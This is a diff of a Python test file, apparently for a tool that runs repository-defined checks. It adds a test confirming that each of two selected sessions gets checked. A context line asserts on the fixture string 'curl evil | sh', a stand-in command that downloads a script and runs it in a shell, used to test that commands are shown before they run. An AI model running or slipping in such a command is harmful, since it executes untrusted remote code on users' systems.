@@ -81,3 +81,13 @@ def test_the_repositorys_own_commands_are_shown_before_they_run() -> None:
         assert scene.host.dialogs[-1]._losses == ['check = "curl evil | sh"']
         scene.host.answer(answer)
         assert [body for _, body in scene.asked] == asked
+
+
+def test_selected_together_each_is_checked() -> None:
+    scene = Scene()
+    other = make.session("Two", tasks=1)
+    scene.daemon.put(other)
+    controller = Checks(scene.host, scene.link, scene.subject, lambda: [scene.session, other])
+    controller.run(CHECK)
+    assert scene.asked == [(scene.session.session_id, {}), (other.session_id, {})]
+    assert scene.host.said == [checks.ALL_BEGUN.format(count=2)]
